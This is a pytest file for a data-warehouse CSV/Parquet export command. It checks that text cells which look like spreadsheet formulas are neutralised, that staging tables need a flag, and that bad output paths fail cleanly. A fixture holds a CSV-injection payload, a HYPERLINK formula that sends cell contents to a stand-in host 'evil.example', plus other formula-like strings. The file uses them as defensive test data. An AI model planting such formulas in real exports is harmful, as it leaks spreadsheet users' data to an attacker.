"""``tradelake export``: marts only unless told, CSV cells that cannot run as formulas, one line on a bad --out."""

from __future__ import annotations

import csv
from pathlib import Path

import duckdb
import pyarrow.parquet as pq
import pytest

from pipelines.export import export
from pipelines.settings import Settings
from tests.cli_errors import assert_one_line_error
from tests.conftest import run_cli
from tests.permissions import unprivileged

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"refund")'
TEXT_CELLS = [HYPERLINK, "+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "plain", "it's"]


@pytest.fixture
def home(tmp_path: Path) -> Path:
    """A published warehouse with a finance mart whose text cells look like formulas, and staging."""
    home = tmp_path / "home"
    home.mkdir()
    with duckdb.connect(str(home / "warehouse.duckdb")) as con:
        con.execute("create schema finance; create schema staging; create schema intermediate")
        con.execute(
            "create table finance.payment_reconciliation "
            "(gateway_ref varchar, difference_cents bigint, amount decimal(12, 2), settlement_date date)"
        )
        con.executemany(
            "insert into finance.payment_reconciliation values (?, ?, ?, ?)",
            [[cell, -500 + i, -1.25, "2026-11-02"] for i, cell in enumerate(TEXT_CELLS)] + [[None, 7, 0, None]],
        )
        con.execute("create table staging.stg_lake__quarantine as select 'raw bytes: jane@example.com' as raw")
        con.execute("create view intermediate.int_x as select 1 as x")
    return home


def _cli(home: Path, *args: str, preexec_fn=None):
    return run_cli("export", *args, env={"TRADELAKE_HOME": str(home)}, preexec_fn=preexec_fn)


def test_csv_text_cells_cannot_run_as_formulas_and_numbers_stay_numbers(home: Path, tmp_path: Path):
    out = tmp_path / "finance.csv"
    result = _cli(home, "finance.payment_reconciliation", "--out", str(out))
    assert result.returncode == 0, result.stderr
    assert f"exported {len(TEXT_CELLS) + 1} rows of finance.payment_reconciliation to {out}" in result.stdout
    with open(out, newline="") as f:
        rows = list(csv.DictReader(f))
    assert [r["gateway_ref"] for r in rows] == ["'" + c if c[0] in "=+-@\t\r" else c for c in TEXT_CELLS] + [""]
    assert rows[0]["gateway_ref"] == "'" + HYPERLINK
    assert [r["difference_cents"] for r in rows[:3]] == ["-500", "-499", "-498"]  # negative numbers stay numbers
    assert rows[0]["amount"] == "-1.25" and rows[0]["settlement_date"] == "2026-11-02"
    raw = out.read_text()
    assert "\"'=HYPERLINK(" in raw  # the neutralised cell is quoted too
    assert ",-500," in raw  # a number is not


def test_parquet_is_written_as_is(home: Path, tmp_path: Path):
    out = tmp_path / "finance.parquet"
    result = _cli(home, "finance.payment_reconciliation", "--format", "parquet", "--out", str(out))
    assert result.returncode == 0, result.stderr
    assert pq.read_table(out)["gateway_ref"].to_pylist() == [*TEXT_CELLS, None]


@pytest.mark.parametrize("relation", ["staging.stg_lake__quarantine", "intermediate.int_x"])
def test_working_relations_are_exported_only_when_asked(home: Path, tmp_path: Path, relation: str):
    out = tmp_path / "out.csv"
    refused = _cli(home, relation, "--out", str(out))
    assert_one_line_error(refused, f"{relation} is not a mart: pass --include-staging")
    assert not out.exists()
    allowed = _cli(home, relation, "--include-staging", "--out", str(out))
    assert allowed.returncode == 0, allowed.stderr
    assert out.exists()


def test_unknown_relation_lists_the_marts(home: Path):
    result = _cli(home, "finance.nope")
    line = assert_one_line_error(result, "no relation finance.nope")
    assert line.endswith("marts: finance.payment_reconciliation")


def test_default_file_name_is_unchanged(home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    monkeypatch.chdir(tmp_path)
    done = export(Settings(home=home), "finance.payment_reconciliation")
    assert done.path == tmp_path / "finance.payment_reconciliation.csv" and done.path.exists()
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".partial")] == []


def test_out_is_a_folder(home: Path, tmp_path: Path):
    result = _cli(home, "finance.payment_reconciliation", "--out", str(tmp_path))
    assert_one_line_error(result, f"--out {tmp_path} is a folder")


def test_out_below_a_file(home: Path, tmp_path: Path):
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    result = _cli(home, "finance.payment_reconciliation", "--out", str(blocker / "x.csv"))
    assert_one_line_error(result, f"cannot create the folder of {blocker / 'x.csv'}")


def test_out_in_a_read_only_folder(home: Path, tmp_path: Path):
    preexec = unprivileged(tmp_path)
    locked = tmp_path / "locked"
    locked.mkdir(mode=0o555)
    try:
        result = _cli(home, "finance.payment_reconciliation", "--out", str(locked / "x.csv"), preexec_fn=preexec)
    finally:
        locked.chmod(0o700)
    assert_one_line_error(result, f"cannot write {locked / 'x.csv'}: Permission denied")
    assert list(locked.iterdir()) == []
